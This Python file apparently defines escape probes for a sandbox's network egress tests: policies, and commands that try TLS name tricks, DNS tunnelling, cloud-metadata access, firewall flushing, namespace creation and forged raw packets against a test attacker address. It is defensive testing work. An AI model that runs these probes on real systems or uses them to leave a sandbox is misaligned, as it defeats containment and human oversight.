# SPDX-License-Identifier: Apache-2.0
"""The table of escape attempts. Add a line, and it is run: over IPv4 and IPv6, inside as root, and its control as well.

A probe is (what, where, policy, command).

  where    "inside": as root in the sandbox.  "kernel": with all privileges in the sandbox's own network namespace, which
           is what the kernel of a VM guest could do.
  policy   a name from POLICIES.
  command  arguments of gadgets.py; or "sh: ..." for a shell line (inside only). {a} is the attacker's address, {web} and
           {node} those of an allowed web server and of the node, {gw} the sandbox's gateway, in the family of the run.
           A command that names none of them is run once.

A probe passes if no packet came to the attacker, no connection to the node's services, no query for the attacker's zone
to the authority, and nothing printed `open`. Those in SEEN_WHEN_OPEN are run once more under allow-all, where the attacker must
see them: a probe that could never be seen proves nothing. (IPv4 options are dropped under every policy, so not these.)
"""

POLICIES = {
    "deny-all": {"mode": "deny-all"},
    "empty": {},
    "domain": {"allow": ["allowed.example"]},
    "catch-all": {"allow": ["*.example"]},
    "postgres": {"allow": ["db.example"]},
    "near": {"allow": ["allowed.example"], "subnets": {"allow": ["198.18.0.0/24", "2001:db8::/64"]}},
    "denied": {"allow": ["*"], "subnets": {"deny": ["198.18.66.0/24", "2001:db8:66::/48"]}},
    "hole": {"subnets": {"allow": ["0.0.0.0/0", "::/0"], "deny": ["198.18.66.0/24", "2001:db8:66::/48"]}},
    "open": {"mode": "allow-all"},  # for what the boundary closes
    "ranges": {"subnets": {"allow": ["0.0.0.0/0", "::/0"]}},
}

QUIC = "hex:c300000001088394c8f03e5157080000449e" + "00" * 100

PROBES = [
    # Names: an allowed name at the attacker's address, and names that are not allowed.
    ("allowed name, attacker's address", "inside", "domain", "tls {a} 443 allowed.example"),
    ("denied name", "inside", "domain", "tls {a} 443 evil.test"),
    ("denied name on an odd port", "inside", "domain", "tls {a} 9999 evil.test"),
    ("no name", "inside", "domain", "tls {a} 443 -"),
    ("name under a denied range", "inside", "denied", "tls {a} 443 evil.test"),
    ("no name under a denied range and a catch-all", "inside", "denied", "tls {a} 443 -"),
    ("denied name under an open range with a hole", "inside", "hole", "tls {a} 443 evil.test"),
    ("two names in one list", "inside", "domain", "odd {a} 443 two-entries"),
    ("two names, reversed", "inside", "domain", "odd {a} 443 two-entries-reversed"),
    ("two name extensions", "inside", "domain", "odd {a} 443 two-extensions"),
    ("NUL inside a name", "inside", "catch-all", "odd {a} 443 nul"),
    ("NUL after an allowed name", "inside", "domain", "odd {a} 443 nul-after"),
    ("trailing dot", "inside", "domain", "odd {a} 443 trailing-dot"),
    ("empty label", "inside", "catch-all", "odd {a} 443 dots"),
    ("empty list of names", "inside", "domain", "odd {a} 443 empty-list"),
    ("empty name", "inside", "domain", "odd {a} 443 empty-name"),
    ("overlong name", "inside", "catch-all", "odd {a} 443 long"),
    ("an address as the name", "inside", "catch-all", "odd {a} 443 address"),
    ("a name of another type", "inside", "domain", "odd {a} 443 other-type"),
    ("a space in the name", "inside", "catch-all", "odd {a} 443 space"),
    ("a slash in the name", "inside", "catch-all", "odd {a} 443 slash"),
    ("upper case", "inside", "domain", "odd {a} 443 upper"),
    ("non-ASCII look-alike", "inside", "catch-all", "odd {a} 443 utf8"),
    ("hello in forty records", "inside", "domain", "odd {a} 443 many-records"),
    ("a second hello behind a cut one", "inside", "domain", "odd {a} 443 second-hello"),
    ("record length that lies", "inside", "domain", "odd {a} 443 record-overrun"),
    ("SSLv2 hello", "inside", "domain", "odd {a} 443 sslv2"),
    ("an alert before the hello", "inside", "domain", "odd {a} 443 alert-first"),
    ("change cipher spec before the hello", "inside", "domain", "odd {a} 443 ccs-first"),
    ("HTTP CONNECT, then an allowed hello", "inside", "domain", "odd {a} 443 http-then-hello"),
    ("PROXY header, then an allowed hello", "inside", "domain", "odd {a} 443 proxy-header"),
    ("SOCKS", "inside", "domain", "odd {a} 443 socks"),
    ("encrypted hello with a denied outer name", "inside", "domain", "odd {a} 443 ech-outer-denied"),
    # Plain TCP.
    ("HTTP with an allowed Host", "inside", "domain", "sh: $G tcp {a} 80 'GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n'"),
    ("SSH", "inside", "domain", "tcp {a} 22 SSH-2.0-x"),
    ("a port of its own", "inside", "domain", "tcp {a} 31337 x"),
    ("port 53 as the source port", "inside", "domain", "tcp {a} 443 x 53"),
    ("TCP port 0", "inside", "domain", "tcp {a} 0 x"),
    ("data in the SYN", "inside", "domain", "fastopen {a} 443"),
    ("marks and transparent sockets", "inside", "domain", "options {a} 443"),
    ("plain TCP past a neighbouring range", "inside", "near", "tcp {a} 443 x"),
    ("everything on everything, empty policy", "inside", "empty", "tcp {a} 443 x"),
    ("everything on everything, deny-all", "inside", "deny-all", "tcp {a} 443 x"),
    # Postgres.
    ("Postgres, denied name", "inside", "postgres", "postgres {a} ssl evil.test"),
    ("Postgres, allowed name, attacker's address", "inside", "postgres", "postgres {a} ssl db.example"),
    ("Postgres GSS", "inside", "postgres", "postgres {a} gss evil.test"),
    ("Postgres GSS then SSL", "inside", "postgres", "postgres {a} gss-ssl evil.test"),
    ("Postgres start-up in clear", "inside", "postgres", "postgres {a} startup evil.test"),
    ("Postgres cancel request", "inside", "postgres", "postgres {a} cancel evil.test"),
    ("Postgres hello sent early", "inside", "postgres", "postgres {a} early evil.test"),
    ("Postgres start-up after the request", "inside", "postgres", "postgres {a} startup-after-ssl evil.test"),
    # UDP, QUIC, ICMP, other protocols.
    ("UDP", "inside", "domain", "udp {a} 9000 leak"),
    ("UDP under a catch-all with a denied range", "inside", "denied", "udp {a} 443 leak"),
    ("UDP past a neighbouring range", "inside", "near", "udp {a} 443 leak"),
    ("UDP from port 53", "inside", "domain", "udp {a} 9000 leak 3 53"),
    ("QUIC", "inside", "domain", f"udp {{a}} 443 {QUIC}"),
    ("NTP", "inside", "domain", "udp {a} 123 leak"),
    ("mDNS port", "inside", "domain", "udp {a} 5353 leak"),
    ("UDP under deny-all", "inside", "deny-all", "udp {a} 443 leak"),
    ("ping with data", "inside", "domain", "ping {a} 500"),
    ("ping in fragments", "inside", "domain", "ping {a} 5000"),
    ("raw protocols", "inside", "domain", "protocol {a} 4 41 47 50 51 103 132 253"),
    ("SCTP and UDP-Lite", "inside", "domain", "seqpacket {a}"),
    # DNS.
    ("another resolver", "inside", "domain", "dns {a} plain leak.evil.test"),
    ("another resolver over TCP", "inside", "domain", "dns {a} plain leak.evil.test tcp"),
    ("a tunnel in query names", "inside", "domain", "tunnel {gw} evil.test"),
    ("a tunnel in query names over TCP", "inside", "domain", "tunnel {a} evil.test tcp"),
    ("a tunnel under deny-all", "inside", "deny-all", "tunnel {gw} evil.test"),
    ("a tunnel with an empty policy", "inside", "empty", "tunnel {a} evil.test"),
    ("DNS on port 5353", "inside", "domain", "dns {a} plain leak.evil.test udp 5353"),
    ("DNS over TLS", "inside", "domain", "tls {a} 853 dns.evil.test"),
    ("DNS over HTTPS", "inside", "domain", "tls {a} 443 doh.evil.test"),
    ("DNS over QUIC", "inside", "domain", f"udp {{a}} 853 {QUIC}"),
    ("bytes that are no DNS on port 53", "inside", "domain", "dns {a} garbage leak.evil.test"),
    ("bytes that are no DNS on TCP 53", "inside", "domain", "tcp {a} 53 leak"),
    ("queries pipelined", "inside", "domain", "dns {a} plain leak.evil.test pipelined"),
    *[(f"odd query: {which}", "inside", "domain", f"dns {{gw}} {which} leak.evil.test")
      for which in ("txt", "any", "axfr", "https", "null", "unknown-type", "upper", "no-recursion", "two-questions", "second-after-end",
                    "dotted-label", "nul-label", "pointer", "pointer-forward", "update", "notify", "response-bit", "edns-cookie", "chaos")],
    # The host, its services, and what belongs to nobody.
    ("the node's services", "inside", "open", "sh: for p in 22 53 80 111 443 2375 8000 9090; do $G tcp {node} $p x; $G udp {node} $p x; done"),
    ("the node's services by a range", "inside", "ranges", "sh: for p in 22 80 443 5432 8080; do $G tcp {node} $p x; done; $G ping {node}"),
    ("every port of the gateway", "inside", "catch-all", "sh: $G scan {gw} 1 52; $G scan {gw} 54 20000"),
    ("the metadata address", "inside", "open", "sh: $G tcp 169.254.169.254 80 x; $G udp 169.254.169.254 80 x; $G ping 169.254.169.254"),
    ("metadata over IPv6", "inside", "open", "sh: $G tcp fd00:ec2::254 80 x; $G udp fd00:ec2::254 80 x"),
    ("private networks", "inside", "ranges", "sh: for a in 10.0.0.1 10.77.0.10 172.16.0.1 192.168.0.1 100.64.0.1 fd00::1 fc00::1; do $G tcp $a 80 x; $G udp $a 80 x; done"),
    ("loopback of the host", "inside", "open", "sh: ip route add 127.0.0.0/8 dev eth0 table 77; for a in 127.0.0.1 127.0.0.53 0.0.0.0 ::1 ::; do $G tcp $a 22 x; done"),
    ("IPv4 inside IPv6", "inside", "ranges", "sh: for a in ::ffff:169.254.169.254 ::169.254.169.254 64:ff9b::a9fe:a9fe 64:ff9b:1::a9fe:a9fe 2002:a9fe:a9fe::1 "
     "2001:0:a9fe:a9fe::1 ::ffff:0:a9fe:a9fe; do $G tcp $a 80 x; $G udp $a 80 x; $G ping $a; done"),
    ("IPv4 inside IPv6, denied range", "inside", "hole", "sh: for a in ::ffff:198.18.66.6 64:ff9b::c612:4206 2002:c612:4206::1; do $G tcp $a 443 x; $G udp $a 443 x; done"),
    ("multicast and broadcast", "inside", "ranges", "sh: for a in 224.0.0.1 224.0.0.251 239.1.1.1 255.255.255.255 ff02::1%eth0 ff05::2 ff0e::1; do $G udp $a 5353 x; done"),
    ("reserved addresses", "inside", "ranges", "sh: for a in 0.1.2.3 240.0.0.1 192.0.0.1 192.88.99.1 203.0.113.1 100::1 3fff::1; do $G tcp $a 443 x; $G udp $a 443 x; done"),
    ("other sandboxes' addresses", "inside", "open", "sh: for n in 1 2 5 6 9 10 13 14 17 18 25 26; do $G tcp 10.209.0.$n 8000 x; $G udp 10.209.0.$n 8000 x; done"),
    ("sockets of the host", "inside", "open", "local_sockets"),
    # Changing the network inside.
    ("an address of its own", "inside", "domain", "change_address {a} {own}"),
    ("a route of its own", "inside", "domain", "sh: ip route add {a} dev eth0; ip route add {a} via 198.18.0.1 dev eth0 onlink; $G tcp {a} 443 x; $G udp {a} 443 x"),
    ("its own firewall flushed", "inside", "domain", "sh: nft flush ruleset; iptables -F; iptables -t nat -F; $G tcp {a} 443 x; $G udp {a} 443 x"),
    ("a namespace of its own", "inside", "domain", "sh: unshare -n $G tcp {a} 443 x; unshare -Un $G udp {a} 443 x; $G udp {a} 443 x"),
    ("a tunnel device of its own", "kernel", "domain", "own_tunnel {a}"),
    ("an address of its own, by the kernel", "kernel", "domain", "change_address {a} {own}"),
    # Packets made by hand.
    ("raw packets from the own address", "kernel", "domain", "inject {a}"),
    ("raw packets under a catch-all", "kernel", "denied", "inject {a}"),
    ("raw packets, denied range in an open one", "kernel", "hole", "inject {a}"),
    ("raw packets under deny-all", "kernel", "deny-all", "inject {a}"),
    ("raw packets inside", "inside", "domain", "sh: $G inject {a} || echo tried"),
    *[(f"source forged as {what}", "kernel", "near", f"inject {{a}} {{{what}}}")
      for what in ("gw", "node", "web", "neighbour", "stranger", "loopback", "a")],
    ("forged link-layer source", "kernel", "domain", "forged_mac {a}"),
    ("frames to everybody", "kernel", "domain", "broadcast_frames {a}"),
    ("UDP in fragments", "kernel", "domain", "fragments {a} udp"),
    ("TCP in fragments", "kernel", "domain", "fragments {a} tcp"),
    ("ICMP in fragments", "kernel", "domain", "fragments {a} icmp"),
    ("fragments under a denied range", "kernel", "hole", "fragments {a} udp"),
    ("IPv4 options", "kernel", "near", "ip_options 198.18.66.6"),
    ("IPv6 extension headers", "kernel", "near", "extension_headers 2001:db8:66::6"),
    ("IPv6 extension headers, denied range", "kernel", "hole", "extension_headers 2001:db8:66::6"),
    ("packets inside packets", "kernel", "domain", "encapsulated {a}"),
    ("VLAN, PPPoE and MPLS", "kernel", "domain", "vlan {a}"),
    ("headers that lie", "kernel", "domain", "malformed {a}"),
    ("ARP in the name of others", "kernel", "domain", "arp_tricks 198.18.66.6"),
    ("neighbour discovery in the name of others", "kernel", "domain", "nd_tricks 2001:db8:66::6"),
    ("ICMP redirects to the router", "kernel", "near", "icmp_redirects 198.18.66.6"),
    ("errors that quote a flow", "kernel", "domain", "related {a}"),
    ("a handshake by hand", "kernel", "domain", "handshake_by_hand {a}"),
]

# Run once more under allow-all, where the attacker must see them.
SEEN_WHEN_OPEN = {
    "allowed name, attacker's address", "denied name", "no name", "two names in one list", "HTTP with an allowed Host", "SSH",
    "port 53 as the source port", "data in the SYN", "marks and transparent sockets", "Postgres, denied name", "UDP", "UDP from port 53",
    "QUIC", "ping with data", "ping in fragments", "another resolver", "another resolver over TCP", "a tunnel in query names over TCP",
    "bytes that are no DNS on port 53", "DNS over TLS", "raw packets from the own address", "UDP in fragments", "IPv6 extension headers",
    "a handshake by hand", "packets inside packets",
}
